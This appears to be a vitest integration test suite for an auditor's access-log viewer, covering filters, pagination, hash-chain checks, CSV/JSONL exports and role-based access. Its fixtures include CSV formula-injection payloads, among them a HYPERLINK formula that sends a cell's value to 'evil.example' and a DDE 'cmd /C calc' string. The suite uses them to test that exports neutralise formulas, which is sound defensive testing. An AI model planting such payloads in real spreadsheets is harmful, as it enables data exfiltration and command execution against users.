// The auditor's view of the access log over real HTTP: real sign-ins through the bundled issuer,
// real PostgreSQL. Events come from real actions (alice gets credentials, mallory is refused) and,
// for volume and odd content, from appendAudit exactly as the gate writes them.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { canonicalJson } from '../src/audit/chain.js';
import { EXPORT_COLUMNS, openExport } from '../src/audit/export.js';
import { type AuditAction, appendAudit } from '../src/audit/log.js';
import { pgauditStatus } from '../src/audit/pgaudit.js';
import type { AuditRecord } from '../src/audit/query.js';
import { controlDb } from '../src/db/client.js';
import { type ApiContract, apiContract } from './support/api-contract.js';
import { parseCsv } from './support/csv.js';
import { HttpSession, signIn } from './support/http-session.js';
import { type TestGate, startTestGate } from './support/gate.js';

let gate: TestGate;
/** Every JSON answer of the API below is checked against its documented schema (test/openapi.test.ts). */
let contract: ApiContract;
const carol = new HttpSession();
const alice = new HttpSession();
const bob = new HttpSession();
const mallory = new HttpSession();

type Row = AuditRecord;

/** Every event, newest first, straight from the database (the expected side of every check). */
let all: Row[] = [];
const ids = (rows: { id: number }[]) => rows.map((r) => r.id);
const nasty = {
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  plus: '+cmd|" /C calc"!A0',
  minus: '-2+3',
  at: '@SUM(A1:A9)',
};
const multiline = 'line one\r\nline "two", three';
let statementEventId = 0;
let prunedEventId = 0;

async function loadAll(): Promise<Row[]> {
  const { rows } = await gate.controlPool.query(
    `SELECT id::int AS id, to_char(at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"') AS at, actor, subject, action,
            request_id AS "requestId", dataset, details, prev_hash AS "prevHash", hash
       FROM audit_events ORDER BY id DESC`,
  );
  return rows;
}

const json = (s: HttpSession, path: string) => s.request(`${gate.url}${path}`, { headers: { accept: 'application/json' } });
async function getJson<T = any>(s: HttpSession, path: string, status = 200): Promise<T> {
  const res = await json(s, path);
  const body = await res.json();
  expect(res.status, `${path}: ${JSON.stringify(body).slice(0, 300)}`).toBe(status);
  if (path.startsWith('/api/')) contract.check('GET', path, res.status, body);
  return body as T;
}
async function getHtml(s: HttpSession, path: string, status = 200): Promise<string> {
  const res = await s.request(`${gate.url}${path}`);
  const body = await res.text();
  expect(res.status, `${path}: ${body.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ').slice(0, 400)}`).toBe(status);
  return body;
}
const rowIds = (html: string) => [...html.matchAll(/<tr data-id="(\d+)"/g)].map((m) => Number(m[1]));
const decode = (s: string) => s.replace(/&amp;/g, '&').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>');
const link = (html: string, rel: 'next' | 'prev') => {
  const m = html.match(new RegExp(`<a class="button secondary" href="([^"]+)" rel="${rel}"`));
  return m ? decode(m[1]!) : null;
};

/** Walks the API with `cursor` until nextCursor is null. */
async function walkApi(query: string, limit = 200): Promise<Row[]> {
  const out: Row[] = [];
  let cursor: string | null = null;
  for (let i = 0; i < 1000; i++) {
    const q = new URLSearchParams(query);
    q.set('limit', String(limit));
    if (cursor) q.set('cursor', cursor);
    const body: { events: Row[]; nextCursor: string | null } = await getJson(carol, `/api/audit/events?${q}`);
    expect(body.events.length).toBeLessThanOrEqual(limit);
    out.push(...body.events);
    cursor = body.nextCursor;
    if (!cursor) return out;
    expect(body.events.length).toBe(limit);
  }
  throw new Error('pagination did not end');
}


beforeAll(async () => {
  gate = await startTestGate({ demoMessages: 200 });
  contract = apiContract(gate);
  const version = gate.policy.agreement.version;

  // Real actions through the real issuer.
  await signIn(alice, gate.url, 'alice', 'alice-demo');
  const post = (s: HttpSession, path: string, body: unknown) =>
    s.request(`${gate.url}${path}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  const accepted = await post(alice, '/api/agreement', { version });
  expect(accepted.status).toBe(200);
  expect(contract.check('POST', '/api/agreement', accepted.status, await accepted.json())).toEqual({ accepted: true, version });
  const issued = await post(alice, '/api/credentials', {});
  expect(issued.status).toBe(201);
  contract.check('POST', '/api/credentials', issued.status, await issued.json());
  const refused = await signIn(mallory, gate.url, 'mallory', 'mallory-demo');
  expect(refused.res.status).toBe(403);
  await signIn(bob, gate.url, 'bob', 'bob-demo');
  await signIn(carol, gate.url, 'carol', 'carol-demo');

  // Volume and awkward content, written the way the gate writes events.
  const db = controlDb(gate.controlPool);
  const actions: AuditAction[] = ['login', 'credential.issued', 'credential.revoked', 'pii.read', 'logout', 'credential.expired'];
  await db.transaction(async (tx) => {
    for (let i = 0; i < 250; i++) {
      const action = actions[i % actions.length]!;
      await appendAudit(tx, {
        action,
        actor: i % 10 === 0 ? 'system:sweeper' : i % 2 ? 'dave' : 'erin',
        subject: i % 2 ? 'dave' : 'erin',
        requestId: i % 25 === 0 ? 7 : i % 3 === 0 ? 8 : null,
        dataset: action === 'pii.read' ? (i % 4 === 0 ? 'pii.users' : 'pii.emails') : null,
        details: { n: i, note: i % 50 === 0 ? 'comma, "quote"\nnewline' : `synthetic ${i}` },
      });
    }
    for (const [i, name] of Object.values(nasty).entries()) {
      await appendAudit(tx, { action: 'login', actor: name, subject: name, details: { cell: name, i } });
    }
    await appendAudit(tx, { action: 'logout', actor: multiline, subject: 'erin' });
    // Grants, for the chart (logged by the PII request flow once it exists).
    for (let i = 0; i < 3; i++) {
      await appendAudit(tx, { action: 'pii.granted' as AuditAction, actor: 'bob', subject: 'dave', requestId: 7, dataset: 'pii.users' });
    }
  });
  // Two PII reads with their statement kept apart: one still there, one pruned by retention.
  await db.transaction(async (tx) => {
    await appendAudit(tx, { action: 'pii.read', actor: 'dave', subject: 'dave', requestId: 7, dataset: 'pii.users', details: { statementSha256: 'a'.repeat(64) } });
    await appendAudit(tx, { action: 'pii.read', actor: 'dave', subject: 'dave', requestId: 7, dataset: 'pii.users', details: { statementSha256: 'b'.repeat(64) } });
  });
  const [{ id: last }] = (await gate.controlPool.query('SELECT max(id)::int AS id FROM audit_events')).rows;
  statementEventId = last - 1;
  prunedEventId = last;
  await gate.controlPool.query(
    `INSERT INTO pii_read_statements (event_id, statement, statement_sha256, pruned_at)
     VALUES ($1, 'SELECT email FROM pii.users WHERE id = 42', $2, NULL), ($3, NULL, $4, now())`,
    [statementEventId, 'a'.repeat(64), prunedEventId, 'b'.repeat(64)],
  );
  all = await loadAll();
}, 120_000);

afterAll(async () => {
  await gate?.close();
});

describe('the list', () => {
  test('carol gets every event newest first, with the chain and the pgaudit status shown plainly', async () => {
    expect(all.length).toBeGreaterThan(260);
    const first = await getJson(carol, '/api/audit/events');
    expect(ids(first.events)).toEqual(ids(all.slice(0, 50)));
    expect(first.nextCursor).toBe(String(all[49]!.id));
    // The event as the API gives it is the row as stored.
    expect(first.events[0]).toEqual(all[0]);

    const res = await carol.request(`${gate.url}/audit`);
    expect(res.status).toBe(200);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const html = await res.text();
    expect(rowIds(html)).toEqual(ids(all.slice(0, 50)));
    expect(html).toContain('Hash chain intact');
    expect(html).toContain('PII reads are not being logged by PostgreSQL.');
    // Whatever pgaudit's status says, the page says it too (not available on the embedded cluster).
    const pgaudit = await pgauditStatus(gate.warehousePool, gate.roles.piiAudit);
    expect(pgaudit.available).toBe(false);
    expect(decode(html)).toContain(pgaudit.detail);
    expect(html).toContain('Showing 50 events, newest first');
    expect(html).toContain('More older events match.');
    // Real actions are there, attributed to who did them.
    const real = (action: string, who: string) => all.find((e) => e.action === action && e.actor === who);
    expect(real('credential.issued', 'alice')).toBeTruthy();
    expect(real('agreement.accepted', 'alice')).toBeTruthy();
    expect(real('gate.refused', 'mallory')).toBeTruthy();
    expect(real('login', 'carol')).toBeTruthy();
  });

  test('each filter narrows to exactly the matching events', async () => {
    const at = all.map((e) => e.at).sort();
    const from = at[40]!;
    const to = at[120]!;
    const cases: [string, (e: Row) => boolean][] = [
      ['analyst=dave', (e) => e.subject === 'dave'],
      ['actor=system:sweeper', (e) => e.actor === 'system:sweeper'],
      ['action=credential.issued', (e) => e.action === 'credential.issued'],
      ['dataset=pii.users', (e) => e.dataset === 'pii.users'],
      ['request=7', (e) => e.requestId === 7],
      [`from=${from}`, (e) => e.at >= from],
      [`to=${to}`, (e) => e.at <= to],
      [`from=${from}&to=${to}`, (e) => e.at >= from && e.at <= to],
      ['analyst=dave&action=pii.read&dataset=pii.users', (e) => e.subject === 'dave' && e.action === 'pii.read' && e.dataset === 'pii.users'],
      ['analyst=alice&action=credential.issued', (e) => e.subject === 'alice' && e.action === 'credential.issued'],
      ['analyst=nobody', () => false],
    ];
    for (const [q, match] of cases) {
      const expected = ids(all.filter(match));
      const got = ids(await walkApi(q));
      expect(got, q).toEqual(expected);
      if (!q.startsWith('analyst=nobody')) expect(expected.length, q).toBeGreaterThan(0);
      expect(expected.length, q).toBeLessThan(all.length);
      // The page shows the same (first page).
      const html = await getHtml(carol, `/audit?${new URLSearchParams(q)}`);
      expect(rowIds(html), q).toEqual(expected.slice(0, 50));
    }
    // A zone-less time is UTC on these routes.
    const zoneless = from.replace(/\.\d+Z$/, '');
    expect(ids(await walkApi(`from=${zoneless}`))).toEqual(ids(all.filter((e) => e.at >= `${zoneless}.000Z`)));
  });

  test('the empty state says so and keeps the filter in the form', async () => {
    const html = await getHtml(carol, '/audit?analyst=nobody&action=pii.read');
    expect(html).toContain('No events match these filters');
    expect(html).toMatch(/<input[^>]*name="analyst"[^>]*value="nobody"/);
    expect(html).toMatch(/<option value="pii.read" selected/);
    expect(html).toContain('Showing 0 events');
  });

  test('keyset pagination walks every page of the API with no duplicate and no gap', async () => {
    for (const limit of [1, 37, 200]) {
      const walked = await walkApi('', limit);
      expect(ids(walked)).toEqual(ids(all));
    }
    const dave = await walkApi('analyst=dave', 13);
    expect(ids(dave)).toEqual(ids(all.filter((e) => e.subject === 'dave')));
  });

  test('the pages walk Older to the end and Newer back to the start, keeping the filter', async () => {
    const pages: number[][] = [];
    // Blank fields, as the form submits them, mean "any".
    let path: string | null = '/audit?analyst=&actor=&action=&dataset=&request=&from=&to=&limit=25';
    const seen: number[] = [];
    let html = '';
    for (let i = 0; i < 50 && path; i++) {
      html = await getHtml(carol, path);
      const page = rowIds(html);
      pages.push(page);
      seen.push(...page);
      path = link(html, 'next');
    }
    expect(seen).toEqual(ids(all));
    expect(html).toContain('No older events match.');
    // And back up with "Newer".
    const back: number[][] = [];
    path = link(html, 'prev');
    while (path) {
      html = await getHtml(carol, path);
      back.unshift(rowIds(html));
      path = link(html, 'prev');
    }
    expect(back.flat()).toEqual(pages.slice(0, -1).flat());
    expect(back.every((p) => p.length === 25)).toBe(true);

    // A filtered walk keeps its filter in every link.
    const filtered: number[] = [];
    path = '/audit?action=pii.read&limit=25';
    while (path) {
      html = await getHtml(carol, path);
      filtered.push(...rowIds(html));
      path = link(html, 'next');
      if (path) expect(path).toContain('action=pii.read');
    }
    expect(filtered).toEqual(ids(all.filter((e) => e.action === 'pii.read')));
  });
});

describe('one event, a timeline, the chart, the chain', () => {
  test('the event page shows every field; a PII read shows its statement, or "pruned" with its hash', async () => {
    const e = all.find((x) => x.actor === 'alice' && x.action === 'credential.issued')!;
    const html = await getHtml(carol, `/audit/events/${e.id}`);
    expect(html).toContain(`Event #${e.id}`);
    expect(html).toContain(e.hash);
    expect(html).toContain(e.prevHash);
    expect(html).toContain('/audit/analysts/alice');
    expect(decode(html)).toContain(JSON.stringify(e.details, null, 2));

    const api = await getJson(carol, `/api/audit/events/${e.id}`);
    expect(api.event).toEqual(e);
    expect(api.statement).toBeNull();

    const kept = await getJson(carol, `/api/audit/events/${statementEventId}`);
    expect(kept.statement).toEqual({ text: 'SELECT email FROM pii.users WHERE id = 42', sha256: 'a'.repeat(64), pruned: false, prunedAt: null });
    expect(await getHtml(carol, `/audit/events/${statementEventId}`)).toContain('SELECT email FROM pii.users WHERE id = 42');
    const pruned = await getJson(carol, `/api/audit/events/${prunedEventId}`);
    expect(pruned.statement).toMatchObject({ text: null, sha256: 'b'.repeat(64), pruned: true });
    const prunedHtml = await getHtml(carol, `/audit/events/${prunedEventId}`);
    expect(prunedHtml).toContain('Pruned');
    expect(prunedHtml).toContain('b'.repeat(64));

    await getJson(carol, '/api/audit/events/999999', 404);
    await getHtml(carol, '/audit/events/999999', 404);
    const bad = await getJson(carol, '/api/audit/events/abc', 400);
    expect(bad.error.message).toMatch(/positive integer/);
    await getHtml(carol, '/audit/events/0', 400);
  });

  test("alice's timeline has what she did and what was done to her access, newest first", async () => {
    const expected = all.filter((e) => e.subject === 'alice' || e.actor === 'alice');
    const html = await getHtml(carol, '/audit/analysts/alice');
    expect(rowIds(html)).toEqual(ids(expected));
    expect(html).toContain('Timeline of alice');
    for (const a of ['login', 'agreement.accepted', 'credential.issued']) expect(html).toContain(a);
    // Paged, and the timeline of someone with many events walks like the list.
    const dave = all.filter((e) => e.subject === 'dave' || e.actor === 'dave');
    const seen: number[] = [];
    let path: string | null = '/audit/analysts/dave?limit=40';
    while (path) {
      const page = await getHtml(carol, path);
      seen.push(...rowIds(page));
      path = link(page, 'next');
    }
    expect(seen).toEqual(ids(dave));
    expect(await getHtml(carol, '/audit/analysts/nobody')).toContain('No events by or about nobody');
  });

  test('the chart counts PII reads and grants per UTC day for 30 days, with a table for screen readers', async () => {
    const html = await getHtml(carol, '/audit');
    const today = new Date().toISOString().slice(0, 10);
    const reads = all.filter((e) => e.action === 'pii.read' && e.at.startsWith(today)).length;
    const grants = all.filter((e) => e.action === 'pii.granted' && e.at.startsWith(today)).length;
    expect(reads).toBeGreaterThan(0);
    expect(grants).toBe(3);
    expect(html).toContain(`<td>${today}</td><td>${reads}</td><td>${grants}</td>`);
    expect(html.match(/<tr><td>\d{4}-\d\d-\d\d<\/td>/g)).toHaveLength(30);
    expect(html).toMatch(/<svg class="chart"[^>]*role="img"/);
    expect(html).toContain(`${reads} PII reads and ${grants} PII grants`);
    expect(html).not.toMatch(/ style=/);
  });

  test('the chain status: intact, every event checked, head is the newest event', async () => {
    const chain = await getJson(carol, '/api/audit/chain');
    expect(chain).toMatchObject({ ok: true, headId: all[0]!.id, headHash: all[0]!.hash });
    expect(chain.checked).toBeGreaterThanOrEqual(all.length);
    expect(chain.firstBroken).toBeUndefined();
  });
});

describe('exports', () => {
  test('CSV: exactly the filtered set, RFC 4180, formulas neutralised, streamed as an attachment', async () => {
    const res = await carol.request(`${gate.url}/audit/export.csv?analyst=dave`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="fdwg-audit-\d{8}T\d{6}Z\.csv"$/);
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.headers.get('transfer-encoding')).toBe('chunked');
    expect(res.headers.get('content-length')).toBeNull();
    const rows = parseCsv(await res.text());
    expect(rows[0]).toEqual([...EXPORT_COLUMNS]);
    const expected = all.filter((e) => e.subject === 'dave');
    expect(rows.slice(1).map((r) => Number(r[0]))).toEqual(ids(expected));
    for (const [i, r] of rows.slice(1).entries()) {
      const e = expected[i]!;
      expect(r).toEqual([
        String(e.id), e.at, e.actor, e.subject ?? '', e.action, e.requestId === null ? '' : String(e.requestId),
        e.dataset ?? '', canonicalJson(e.details), e.prevHash, e.hash,
      ]);
    }

    const whole = parseCsv(await (await carol.request(`${gate.url}/audit/export.csv`)).text());
    expect(whole.slice(1).map((r) => Number(r[0]))).toEqual(ids(all));
    // Quotes, commas and line breaks inside a cell survive.
    expect(whole.filter((r) => r[7]!.includes('comma, \\"quote\\"\\nnewline')).length).toBeGreaterThan(0);
    // Cells a spreadsheet would run as formulas start with an apostrophe.
    for (const value of Object.values(nasty)) {
      const row = whole.find((r) => r[2] === `'${value}`);
      expect(row, value).toBeTruthy();
      expect(row![3]).toBe(`'${value}`);
      expect(whole.some((r) => r.some((cell) => cell === value))).toBe(false);
    }
    expect(whole.filter((r) => r[2] === multiline)).toHaveLength(1);
  });

  test('JSON Lines: exactly the filtered set, one event per line', async () => {
    for (const [q, match] of [
      ['action=pii.read', (e: Row) => e.action === 'pii.read'],
      ['', () => true],
      ['analyst=nobody', () => false],
    ] as const) {
      const res = await carol.request(`${gate.url}/audit/export.jsonl${q ? `?${q}` : ''}`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^application\/jsonl/);
      expect(res.headers.get('content-disposition')).toMatch(/\.jsonl"$/);
      const text = await res.text();
      const lines = text === '' ? [] : text.replace(/\n$/, '').split('\n').map((l) => JSON.parse(l));
      const expected = all.filter(match);
      expect(lines.map((l) => l.id), q).toEqual(ids(expected));
      for (const [i, l] of lines.entries()) {
        const e = expected[i]!;
        expect(l).toEqual({
          id: e.id, at: e.at, actor: e.actor, subject: e.subject, action: e.action, request_id: e.requestId,
          dataset: e.dataset, details: e.details, prev_hash: e.prevHash, hash: e.hash,
        });
      }
    }
  });

  test('the body arrives in several chunks for a large set', async () => {
    const res = await carol.request(`${gate.url}/audit/export.jsonl`);
    const reader = res.body!.getReader();
    let chunks = 0;
    let bytes = 0;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks++;
      bytes += value.byteLength;
    }
    expect(bytes).toBeGreaterThan(50_000);
    expect(chunks).toBeGreaterThan(1);
  });

  test('batches are fetched on demand: a reader that stops early leaves the rest unread', async () => {
    const batches: number[] = [];
    const stream = await openExport(controlDb(gate.controlPool), {}, 'csv', { batchSize: 20, onBatch: (n) => batches.push(n) });
    const reader = stream.getReader();
    const first = await reader.read();
    expect(parseCsv(new TextDecoder().decode(first.value))).toHaveLength(21); // header and one batch
    await new Promise((r) => setTimeout(r, 50));
    // The one being read and at most one queued ahead, not the whole log.
    expect(batches.length).toBeLessThanOrEqual(2);
    await reader.cancel();
    // Read to the end, it is the whole set in order.
    const all2: string[] = [];
    const full = await openExport(controlDb(gate.controlPool), {}, 'jsonl', { batchSize: 20, onBatch: (n) => batches.push(n) });
    const text = await new Response(full).text();
    for (const l of text.trim().split('\n')) all2.push(JSON.parse(l).id);
    expect(all2).toEqual(ids(all));
  });
});

describe('who may look', () => {
  const pages = ['/audit', '/audit?action=login', '/audit/events/1', '/audit/analysts/alice', '/audit/export.csv', '/audit/export.jsonl', '/audit/nowhere'];
  const api = ['/api/audit/events', '/api/audit/events?action=login', '/api/audit/events/1', '/api/audit/chain'];

  test('alice (analyst), bob (approver) and mallory (outsider) get 403 on every auditor route', async () => {
    for (const [who, s] of [['alice', alice], ['bob', bob], ['mallory', mallory]] as const) {
      for (const path of pages) {
        const res = await s.request(`${gate.url}${path}`);
        const body = await res.text();
        expect(res.status, `${who} ${path}`).toBe(403);
        expect(body, `${who} ${path}`).toContain('auditors only');
        expect(body).not.toContain(all[0]!.hash);
      }
      for (const path of api) {
        const res = await json(s, path);
        expect(res.status, `${who} ${path}`).toBe(403);
        expect(contract.check('GET', path, res.status, await res.json()).error.code).toBe('forbidden');
      }
    }
  });

  test('without a session: 401 on the API and on the pages', async () => {
    const anon = new HttpSession();
    for (const path of api) {
      const res = await json(anon, path);
      expect(res.status, path).toBe(401);
      expect(contract.check('GET', path, res.status, await res.json()).error.code).toBe('unauthenticated');
    }
    for (const path of pages) expect((await anon.request(`${gate.url}${path}`)).status, path).toBe(401);
  });
});

describe('bad input is a 400 that says why, never a 500', () => {
  test.each([
    ['from=yesterday', /from/],
    ['to=soon', /to/],
    ['action=nope', /action/],
    ['limit=0', /limit/],
    ['limit=201', /limit/],
    ['limit=ten', /limit/],
    ['request=abc', /request/],
    ['request=-3', /request/],
    ['cursor=abc', /cursor/],
    ['from=2026-02-01&to=2026-01-01', /from must not be after to/],
    ['anlyst=alice', /unknown parameter "anlyst"/],
  ])('%s', async (q, reason) => {
    const body = await getJson(carol, `/api/audit/events?${q}`, 400);
    expect(body.error.code).toBe('bad_request');
    expect(body.error.message).toMatch(reason);
    if (!q.startsWith('cursor') && !q.startsWith('limit')) {
      for (const path of ['/audit', '/audit/export.csv', '/audit/export.jsonl']) {
        const html = await getHtml(carol, `${path}?${q}`, 400);
        expect(decode(html)).toMatch(reason);
      }
    }
  });
});

test('/healthz says plainly that pgaudit is not available on the embedded cluster, and stays ready', async () => {
  const res = await fetch(`${gate.url}/healthz`);
  expect(res.status).toBe(200);
  const body = await res.json();
  expect(body.status).toBe('ready');
  expect(body.checks.pgaudit).toMatchObject({ available: false });
  expect(body.checks.pgaudit.detail).toMatch(/pgaudit/);
  expect(body.checks.pgaudit.detail).toMatch(/not/);
});
